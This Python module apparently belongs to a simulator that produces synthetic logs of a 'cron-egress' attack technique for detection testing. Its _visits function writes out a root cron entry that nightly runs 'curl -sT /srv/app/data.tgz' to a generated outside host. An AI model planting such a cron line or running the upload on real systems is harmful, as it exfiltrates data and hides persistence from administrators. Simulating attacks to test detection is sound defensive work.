"""A table of cron is left behind, which uploads in the night after."""

from __future__ import annotations

from evidence.kind import Actor, Endpoint
from evidence.kinds.connection import Close
from evidence.kinds.login import SessionClose, SessionOpen
from evidence.kinds.process import Ancestor, Exec
from evidence.kinds.state import Changed

from .. import programs
from ..doing import Doing
from ..hosts import DAY, HOUR
from ..place import Place
from ..shell import SECOND
from ..technique import Plan, Technique
from ..work import Visit
from ..world import Machine, World

_TABLE = "/etc/cron.d/app-report"
_NIGHTS = 2


def _visits(plan: Plan) -> list[Visit]:
    place, day = plan.place("https"), plan.draw.choice(plan.days[:-1])
    command = f"curl -sT /srv/app/data.tgz https://{place.name}/in/"
    sizes = [plan.amount() for _ in range(_NIGHTS)]
    for night in range(_NIGHTS):
        plan.on(day + 1 + night)

    def act(doing: Doing) -> None:
        actor = doing.shell.sudo("tee", _TABLE)
        line = f"12 3 * * * root {command}"
        told = Changed(
            source="cron", subject=_TABLE, path=_TABLE, change="appeared", added=(line,), actor=actor
        )
        doing.shell.tell(told, doing.shell.at + 2 * SECOND)
        begin = doing.world.settings.begin
        for night, size in enumerate(sizes):
            at = begin + (day + 1 + night) * DAY + 3 * HOUR + 12 * 60 * SECOND
            _job(doing.world, doing.shell.machine, (at, command, int(size)), place)

    return [plan.visit(day, act)]


def _job(world: World, machine: Machine, job: tuple[int, str, int], place: Place) -> None:
    """Tell of one run of the table's line, as root's session of cron."""
    at, command, size = job
    session, daemon, shell = machine.session(), machine.pid(), machine.pid()
    opened = SessionOpen(program="cron", user="root", pid=daemon, uid=0, auid=0, session=session)
    world.tell(machine, at, opened)
    start = machine.start(at)
    line = (
        Ancestor(pid=daemon, start=start, exe="/usr/sbin/cron"),
        Ancestor(pid=500, start=SECOND, exe="/usr/sbin/cron"),
    )
    for pid, argv, above in (
        (shell, ("/bin/sh", "-c", command), line),
        (
            machine.pid(),
            tuple(command.split()),
            (Ancestor(pid=shell, start=start, exe="/usr/bin/dash"), *line),
        ),
    ):
        exe = "/usr/bin/dash" if argv[0] == "/bin/sh" else programs.path(argv[0])
        body = Exec(
            pid=pid, start=machine.start(at), ppid=above[0].pid, parent_start=above[0].start, exe=exe,
            cwd="/root", argv=argv, argv_length=sum(map(len, argv)) + len(argv), sha256=programs.sha256(exe),
            uid=0, gid=0, euid=0, auid=0, session=session, user="root", unit="cron.service", ancestry=above,
        )  # fmt: skip
        world.tell(machine, at, body)
    actor = Actor(
        pid=pid, start=machine.start(at), exe="/usr/bin/curl", cmd_line=command, uid=0, auid=0,
        session=session, unit="cron.service",
    )  # fmt: skip
    sent = Close(
        flow=machine.flow(), protocol="tcp", direction="out", bytes_out=size, bytes_in=6000,
        local=Endpoint(ip=machine.host.ip, port=machine.port()),
        remote=Endpoint(ip=place.ip, port=place.port, name=place.name), duration=20 * SECOND, actor=actor,
    )  # fmt: skip
    world.tell(machine, at + 20 * SECOND, sent)
    closed = SessionClose(program="cron", user="root", pid=daemon, session=session)
    world.tell(machine, at + 21 * SECOND, closed)


TECHNIQUE = Technique("cron-egress", 20, "a cron table that uploads", _visits, needs=4, is_admin=True)
